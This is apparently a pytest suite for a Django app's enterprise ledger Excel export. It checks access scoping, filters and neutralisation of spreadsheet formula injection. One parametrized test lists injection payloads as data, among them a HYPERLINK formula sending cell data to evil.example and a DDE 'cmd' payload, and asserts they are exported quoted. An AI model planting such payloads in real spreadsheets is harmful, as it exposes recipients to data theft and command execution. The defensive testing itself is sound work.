"""The enterprise ledger as Excel: a real workbook, only the rows the user may see and has
filtered to, and no cell that Excel would run as a formula."""

from __future__ import annotations

import io
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from fugong.core.excel import safe_cell, write_xlsx
from fugong.enterprises.choices import Sector
from fugong.enterprises.exporters import COLUMNS
from fugong.enterprises.models import Enterprise

pytestmark = pytest.mark.django_db

YUANCHENG = "/440000/441600/441602/"


def export(client, **query):
    response = client.get("/enterprises/", {**query, "export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return response


def sheet_of(response):
    return load_workbook(io.BytesIO(response.content)).worksheets[0]


def codes_in(sheet) -> list[str]:
    column = [c.value for c in sheet[1]].index("统一社会信用代码")
    return [row[column] for row in sheet.iter_rows(min_row=2, values_only=True)]


def test_the_export_is_a_real_workbook_with_every_enterprise_the_officer_may_see(client_for):
    # When the county's command officer exports the unfiltered list
    response = export(client_for("county_cmd"))

    # Then it is an .xlsx attachment named after the ledger
    assert unquote(response["Content-Disposition"]).startswith("attachment; filename*=UTF-8''企业台账-")
    sheet = sheet_of(response)
    # With the ledger's headers and one row per enterprise of the county, and nothing else
    assert [c.value for c in sheet[1]] == [title for title, _ in COLUMNS]
    expected = Enterprise.objects.filter(region__path__startswith=YUANCHENG).values_list("uscc", flat=True)
    codes = codes_in(sheet)
    assert len(codes) == 180
    assert sorted(codes) == sorted(expected)


def test_the_export_holds_only_the_officers_jurisdiction(client_for):
    sheet = sheet_of(export(client_for("hitech_cmd")))

    town_column = [c.value for c in sheet[1]].index("镇街")
    towns = {row[town_column] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert towns == {"高新区"}
    assert not set(codes_in(sheet)) & set(Enterprise.objects.filter(town__parent__code="440784").values_list("uscc", flat=True))


def test_the_export_follows_the_lists_filters(client_for):
    client = client_for("county_cmd")

    sheet = sheet_of(export(client, sector=Sector.CONSTRUCTION))

    listed = client.get("/enterprises/", {"sector": Sector.CONSTRUCTION}).context["page"].paginator.object_list
    assert sorted(codes_in(sheet)) == sorted(e.uscc for e in listed)
    assert {row[4] for row in sheet.iter_rows(min_row=2, values_only=True)} == {"建筑工地"}


def test_an_export_with_a_refused_filter_is_empty_rather_than_everything(client_for, region):
    sheet = sheet_of(export(client_for("hitech_cmd"), town=region("沙坪街道").pk))

    assert codes_in(sheet) == []


def test_the_export_shows_readable_values(client_for, own_enterprise):
    sheet = sheet_of(export(client_for("hitech_cmd"), q=own_enterprise.uscc))

    headers = [c.value for c in sheet[1]]
    [row] = list(sheet.iter_rows(min_row=2, values_only=True))
    values = dict(zip(headers, row, strict=True))
    assert values["企业名称"] == own_enterprise.name
    assert values["镇街"] == "高新区"
    assert values["所在网格/村社区"] == own_enterprise.region.name
    assert values["规模"] in {"规上", "规下"}
    assert values["复工状态"] == "未申请"
    assert values["员工总数"] == own_enterprise.headcount
    assert values["食堂"] in {"有", "无"}


@pytest.mark.parametrize("dangerous", ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"])
def test_a_name_that_excel_would_run_as_a_formula_is_exported_as_plain_text(client_for, own_enterprise, dangerous):
    # Given an enterprise whose name and contact were typed to look like formulas
    Enterprise.objects.filter(pk=own_enterprise.pk).update(name=dangerous, contact_name=dangerous)

    # When it is exported
    sheet = sheet_of(export(client_for("hitech_cmd"), q=own_enterprise.uscc))

    # Then the cells are text that starts with a quote, never formulas
    name_cell, contact_cell = sheet["A2"], sheet.cell(row=2, column=[t for t, _ in COLUMNS].index("防疫联系人") + 1)
    for cell in (name_cell, contact_cell):
        assert cell.data_type == "s"
        assert cell.value == "'" + dangerous


def test_safe_cell_leaves_ordinary_values_alone_and_quotes_formula_starts():
    assert safe_cell("河源市=公司") == "河源市=公司"
    assert safe_cell(42) == 42
    assert safe_cell(-5) == -5
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1")] == ["'=1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1"]


def test_a_written_workbook_reads_back_with_its_header_and_rows():
    content = write_xlsx(["名称", "数量"], [["甲", 1], ["=乙", 2]], title="测试")

    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["测试"]
    assert [[c.value for c in row] for row in workbook.active.iter_rows()] == [["名称", "数量"], ["甲", 1], ["'=乙", 2]]


@pytest.mark.parametrize("username", ["ent_admin", "employee"])
def test_enterprise_people_cannot_export_the_ledger(client_for, username):
    assert client_for(username).get("/enterprises/", {"export": "xlsx"}).status_code == 403
